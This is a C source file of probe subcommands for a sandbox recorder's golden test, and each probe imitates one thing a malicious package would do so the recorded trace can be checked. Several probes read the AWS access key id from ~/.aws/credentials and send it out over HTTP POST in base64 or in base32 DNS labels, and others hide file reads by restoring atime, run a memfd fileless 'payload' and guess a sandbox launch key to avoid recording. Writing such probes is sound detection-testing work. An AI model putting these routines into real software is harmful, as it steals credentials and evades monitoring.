/* Probe subcommands for the recorder's golden test: each does one known
 * thing a sample would (network, DNS, files, memfd, a token leak) so the
 * trace can be compared with what must be there. Destinations are the
 * documentation ranges and .test names only. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* JAIL_LAUNCH_KEY_PLACEHOLDER of sandbox/jail_internal.h: public, so a
 * sample could try it. Repeated, not included: the probe is built as a
 * sample would be, from nothing of pkgtrap's. */
#define LAUNCH_KEY_PLACEHOLDER 0x6b1d93f2c74e0a58ULL

int probe_rec_main(int argc, char **argv);

static int tcp_send(const char *addr, int port, const void *data, size_t len) {
  struct sockaddr_storage ss;
  memset(&ss, 0, sizeof(ss));
  socklen_t sl;
  int fam = strchr(addr, ':') ? AF_INET6 : AF_INET;
  if (fam == AF_INET) {
    struct sockaddr_in *in = (void *)&ss;
    in->sin_family = AF_INET;
    in->sin_port = htons((uint16_t)port);
    inet_pton(AF_INET, addr, &in->sin_addr);
    sl = sizeof(*in);
  } else {
    struct sockaddr_in6 *in6 = (void *)&ss;
    in6->sin6_family = AF_INET6;
    in6->sin6_port = htons((uint16_t)port);
    inet_pton(AF_INET6, addr, &in6->sin6_addr);
    sl = sizeof(*in6);
  }
  int s = socket(fam, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (struct sockaddr *)&ss, sl) < 0) {
    printf("connect %s %d %s\n", addr, port, strerror(errno));
    return 1;
  }
  if (len && write(s, data, len) != (ssize_t)len)
    printf("send failed %s\n", strerror(errno));
  shutdown(s, SHUT_WR);
  char buf[4096];
  ssize_t n = read(s, buf, sizeof(buf) - 1); /* the fake server's answer */
  if (n > 0) {
    buf[n] = 0;
    char *eol = strchr(buf, '\r');
    if (eol)
      *eol = 0;
    printf("reply %s\n", buf);
  }
  close(s);
  printf("sent %zu to %s %d\n", len, addr, port);
  return 0;
}

static const char *resolve(const char *name, char *out, size_t cap) {
  struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
  struct addrinfo *ai = NULL;
  int rc = getaddrinfo(name, NULL, &hints, &ai);
  if (rc != 0) {
    printf("resolve %s failed %s\n", name, gai_strerror(rc));
    return NULL;
  }
  inet_ntop(AF_INET, &((struct sockaddr_in *)ai->ai_addr)->sin_addr, out,
            (socklen_t)cap);
  freeaddrinfo(ai);
  printf("resolved %s %s\n", name, out);
  return out;
}

static const char b64[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
static void base64(const char *in, char *out) {
  size_t n = strlen(in), k = 0;
  for (size_t i = 0; i < n; i += 3) {
    unsigned v = (unsigned char)in[i] << 16;
    if (i + 1 < n)
      v |= (unsigned char)in[i + 1] << 8;
    if (i + 2 < n)
      v |= (unsigned char)in[i + 2];
    out[k++] = b64[(v >> 18) & 63];
    out[k++] = b64[(v >> 12) & 63];
    out[k++] = i + 1 < n ? b64[(v >> 6) & 63] : '=';
    out[k++] = i + 2 < n ? b64[v & 63] : '=';
  }
  out[k] = 0;
}
static void base32(const char *in, char *out) {
  const char *a = "abcdefghijklmnopqrstuvwxyz234567";
  size_t n = strlen(in), k = 0;
  unsigned long long buf = 0;
  int bits = 0;
  for (size_t i = 0; i < n; i++) {
    buf = (buf << 8) | (unsigned char)in[i];
    bits += 8;
    while (bits >= 5) {
      out[k++] = a[(buf >> (bits - 5)) & 31];
      bits -= 5;
    }
  }
  if (bits)
    out[k++] = a[(buf << (5 - bits)) & 31];
  out[k] = 0;
}

/* The AWS access key id from ~/.aws/credentials. */
static int aws_key(char *out, size_t cap) {
  char path[512];
  snprintf(path, sizeof(path), "%s/.aws/credentials", getenv("HOME"));
  FILE *f = fopen(path, "r");
  if (!f)
    return -1;
  char line[512];
  int found = -1;
  while (fgets(line, sizeof(line), f))
    if (strstr(line, "aws_access_key_id")) {
      char *v = strchr(line, '=');
      if (!v)
        continue;
      v++;
      while (*v == ' ')
        v++;
      v[strcspn(v, "\r\n ")] = 0;
      snprintf(out, cap, "%s", v);
      found = 0;
      break;
    }
  fclose(f);
  return found;
}

/* A minimal TLS 1.2 ClientHello carrying SNI. */
static size_t client_hello(const char *sni, unsigned char *b) {
  size_t hl = strlen(sni);
  unsigned char ext[512];
  size_t e = 0;
  ext[e++] = 0; ext[e++] = 0; /* server_name */
  ext[e++] = (unsigned char)((hl + 5) >> 8); ext[e++] = (unsigned char)(hl + 5);
  ext[e++] = (unsigned char)((hl + 3) >> 8); ext[e++] = (unsigned char)(hl + 3);
  ext[e++] = 0; /* host_name */
  ext[e++] = (unsigned char)(hl >> 8); ext[e++] = (unsigned char)hl;
  memcpy(ext + e, sni, hl);
  e += hl;
  unsigned char body[1024];
  size_t k = 0;
  body[k++] = 3; body[k++] = 3; /* client_version TLS 1.2 */
  memset(body + k, 0x11, 32); k += 32; /* random */
  body[k++] = 0; /* session id */
  body[k++] = 0; body[k++] = 2; body[k++] = 0x13; body[k++] = 0x01;
  body[k++] = 1; body[k++] = 0; /* compression: null */
  body[k++] = (unsigned char)(e >> 8); body[k++] = (unsigned char)e;
  memcpy(body + k, ext, e);
  k += e;
  size_t n = 0;
  b[n++] = 0x16; b[n++] = 3; b[n++] = 1; /* handshake record */
  b[n++] = (unsigned char)((k + 4) >> 8); b[n++] = (unsigned char)(k + 4);
  b[n++] = 1; /* client_hello */
  b[n++] = 0; b[n++] = (unsigned char)(k >> 8); b[n++] = (unsigned char)k;
  memcpy(b + n, body, k);
  return n + k;
}

struct stress_arg {
  int id;
  long per_thread;
  long usec_gap;
};
static void *stress_thread(void *p) {
  struct stress_arg *a = p;
  char path[64];
  snprintf(path, sizeof(path), "/tmp/stress-%d", a->id);
  for (long i = 0; i < a->per_thread; i++) {
    /* A write-open: one stop each, and one "file" event each. */
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd >= 0)
      close(fd);
    if (a->usec_gap)
      usleep((useconds_t)a->usec_gap);
  }
  return NULL;
}

int probe_rec_main(int argc, char **argv) {
  const char *c = argv[1];
  char addr[64], key[128], enc[512], buf[4096];
  if (!strcmp(c, "tcp") && argc >= 5)
    return tcp_send(argv[2], atoi(argv[3]), argv[4], strlen(argv[4]));
  if (!strcmp(c, "udp") && argc >= 5) {
    struct sockaddr_in in = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)atoi(argv[3]))};
    inet_pton(AF_INET, argv[2], &in.sin_addr);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    ssize_t n = sendto(s, argv[4], strlen(argv[4]), 0, (struct sockaddr *)&in,
                       sizeof(in));
    printf("udp sent %zd\n", n);
    usleep(200000); /* let the fake network read it before we exit */
    return 0;
  }
  if (!strcmp(c, "dns") && argc >= 3)
    return resolve(argv[2], addr, sizeof(addr)) ? 0 : 1;
  if (!strcmp(c, "http-post") && argc >= 5) {
    /* http-post HOST PATH BODY: resolve HOST, POST BODY to it on 80. */
    if (!resolve(argv[2], addr, sizeof(addr)))
      return 1;
    int n = snprintf(buf, sizeof(buf),
                     "POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: probe/1\r\n"
                     "Content-Type: text/plain\r\nContent-Length: %zu\r\n\r\n%s",
                     argv[3], argv[2], strlen(argv[4]), argv[4]);
    return tcp_send(addr, 80, buf, (size_t)n);
  }
  if (!strcmp(c, "tls") && argc >= 5) {
    /* tls SNI ADDR PORT */
    unsigned char hello[1200];
    size_t n = client_hello(argv[2], hello);
    return tcp_send(argv[3], atoi(argv[4]), hello, n);
  }
  if (!strcmp(c, "read") && argc >= 3) {
    snprintf(buf, sizeof(buf), "%s/%s", getenv("HOME"), argv[2]);
    int fd = open(buf, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, enc, sizeof(enc)) : -1;
    printf("read %s %zd\n", argv[2], n);
    if (fd >= 0)
      close(fd);
    return 0;
  }
  if (!strcmp(c, "read-hidden") && argc >= 3) {
    /* read FILE, then put its atime back as it was */
    snprintf(buf, sizeof(buf), "%s/%s", getenv("HOME"), argv[2]);
    struct stat st;
    if (stat(buf, &st) < 0)
      return 1;
    int fd = open(buf, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, enc, sizeof(enc)) : -1;
    if (fd >= 0)
      close(fd);
    struct timespec ts[2] = {st.st_atim, st.st_mtim};
    int u = utimensat(AT_FDCWD, buf, ts, 0);
    printf("read-hidden %s %zd utimensat %d\n", argv[2], n, u);
    return 0;
  }
  if (!strcmp(c, "read-noatime") && argc >= 3) {
    /* O_NOATIME, by open and by fcntl: both refused (EPERM) */
    snprintf(buf, sizeof(buf), "%s/%s", getenv("HOME"), argv[2]);
    int fd = open(buf, O_RDONLY | O_NOATIME);
    int e1 = fd < 0 ? errno : 0;
    if (fd >= 0)
      close(fd);
    fd = open(buf, O_RDONLY);
    int r = fd >= 0 ? fcntl(fd, F_SETFL, O_NOATIME) : -1;
    int e2 = r < 0 ? errno : 0;
    if (fd >= 0)
      close(fd);
    printf("noatime open %s fcntl %s\n", e1 ? strerror(e1) : "allowed",
           e2 ? strerror(e2) : "allowed");
    return 0;
  }
  if (!strcmp(c, "openat2")) {
    /* openat2's flags are out of BPF's sight: answered ENOSYS */
    struct {
      uint64_t flags, mode, resolve;
    } how = {O_RDONLY, 0, 0};
    long r = syscall(SYS_openat2, AT_FDCWD, "/etc/hostname", &how,
                     sizeof(how));
    printf("openat2 %s\n", r < 0 ? strerror(errno) : "allowed");
    if (r >= 0)
      close((int)r);
    return 0;
  }
  if (!strcmp(c, "leak-b64-post") && argc >= 3) {
    /* the AWS key id, base64, POSTed to HOST */
    if (aws_key(key, sizeof(key)) < 0)
      return 1;
    base64(key, enc);
    if (!resolve(argv[2], addr, sizeof(addr)))
      return 1;
    int n = snprintf(buf, sizeof(buf),
                     "POST /c HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\n\r\n%s",
                     argv[2], strlen(enc), enc);
    return tcp_send(addr, 80, buf, (size_t)n);
  }
  if (!strcmp(c, "leak-b32-dns") && argc >= 3) {
    /* the AWS key id, base32, split over labels under DOMAIN */
    if (aws_key(key, sizeof(key)) < 0)
      return 1;
    base32(key, enc);
    size_t l = strlen(enc);
    char name[600];
    size_t h = l / 2;
    snprintf(name, sizeof(name), "%.*s.%s.%s", (int)h, enc, enc + h, argv[2]);
    resolve(name, addr, sizeof(addr));
    return 0;
  }
  if (!strcmp(c, "stage-file") && argc >= 3) {
    /* the AWS key id written (staged) into a file outside its home */
    if (aws_key(key, sizeof(key)) < 0)
      return 1;
    FILE *f = fopen(argv[2], "w");
    if (!f)
      return 1;
    fprintf(f, "k=%s\n", key);
    fclose(f);
    printf("staged\n");
    return 0;
  }
  if (!strcmp(c, "exec-env")) {
    /* the AWS key id handed to a child in a variable of its own */
    if (aws_key(key, sizeof(key)) < 0)
      return 1;
    char var[200];
    snprintf(var, sizeof(var), "LEAKED=%s", key);
    char *args[] = {"/bin/true", NULL};
    char *env[] = {var, NULL};
    execve("/bin/true", args, env);
    return 1;
  }
  if (!strcmp(c, "exec-keyed")) {
    /* execs whose ignored 4th argument holds what a sample could guess
     * of the launch key that lets CMD's own exec through unrecorded
     * (sandbox/jail_internal.h): each must be recorded all the same. */
    static const uint64_t guesses[] = {0, LAUNCH_KEY_PLACEHOLDER,
                                       ~0ULL, 0x100000000ULL};
    for (unsigned i = 0; i < sizeof(guesses) / sizeof(guesses[0]); i++) {
      pid_t pid = fork();
      if (pid == 0) {
        char tag[32];
        snprintf(tag, sizeof(tag), "keyed-%u", i);
        char *args[] = {"/bin/true", tag, NULL}, *env[] = {NULL};
        syscall(SYS_execve, "/bin/true", args, env, guesses[i]);
        _exit(1);
      }
      if (pid < 0 || waitpid(pid, NULL, 0) < 0)
        return 1;
    }
    return 0;
  }
  if (!strcmp(c, "exec-scatter")) {
    /* argv strings where the recorder's reader has to be careful: one
     * across a page boundary, one ending on the last byte before an
     * unmapped page, one on the stack far from both (check_trace.py
     * expects them exactly). */
    char *m = mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (m == MAP_FAILED || munmap(m + 2 * 4096, 4096) < 0)
      return 1;
    char *cross = m + 4096 - 40, *guard = m + 2 * 4096 - 30;
    memcpy(cross, "scatter-cross-", 14);
    memset(cross + 14, 'x', 85);
    cross[99] = '\0';
    memcpy(guard, "scatter-guard-", 14);
    memset(guard + 14, 'y', 15);
    guard[29] = '\0'; /* the last byte of the mapping */
    char plain[] = "scatter-plain";
    char *args[] = {"/bin/true", cross, guard, plain, NULL};
    char *env[] = {guard, NULL};
    execve("/bin/true", args, env);
    return 1;
  }
  if (!strcmp(c, "files") && argc >= 3) {
    /* create, chmod, rename, unlink under DIR */
    char a[512], b[512];
    snprintf(a, sizeof(a), "%s/created.txt", argv[2]);
    snprintf(b, sizeof(b), "%s/renamed.txt", argv[2]);
    int fd = open(a, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
      if (write(fd, "x", 1) < 0)
        perror("write");
      close(fd);
    }
    chmod(a, 0755);
    rename(a, b);
    unlink(b);
    printf("files done\n");
    return 0;
  }
  if (!strcmp(c, "memfd-exec")) {
    int fd = (int)syscall(SYS_memfd_create, "payload", 0);
    const char *script = "#!/bin/sh\necho memfd-ran\n";
    if (fd < 0 || write(fd, script, strlen(script)) < 0)
      return 1;
    char *args[] = {"payload", NULL};
    char *env[] = {NULL};
    fexecve(fd, args, env);
    printf("fexecve failed %s\n", strerror(errno));
    return 1;
  }
  if (!strcmp(c, "stress") && argc >= 5) {
    /* stress THREADS SECONDS RATE: RATE write-opens per second in all */
    int threads = atoi(argv[2]);
    long secs = atol(argv[3]), rate = atol(argv[4]);
    if (threads < 1 || threads > 64)
      return 2;
    pthread_t t[64];
    struct stress_arg a[64];
    long per = rate * secs / threads;
    for (int i = 0; i < threads; i++) {
      a[i] = (struct stress_arg){i, per, 1000000L * threads / rate};
      pthread_create(&t[i], NULL, stress_thread, &a[i]);
    }
    for (int i = 0; i < threads; i++)
      pthread_join(t[i], NULL);
    printf("stress opens %ld\n", per * threads);
    return 0;
  }
  fprintf(stderr, "probe: unknown command %s\n", c);
  return 2;
}
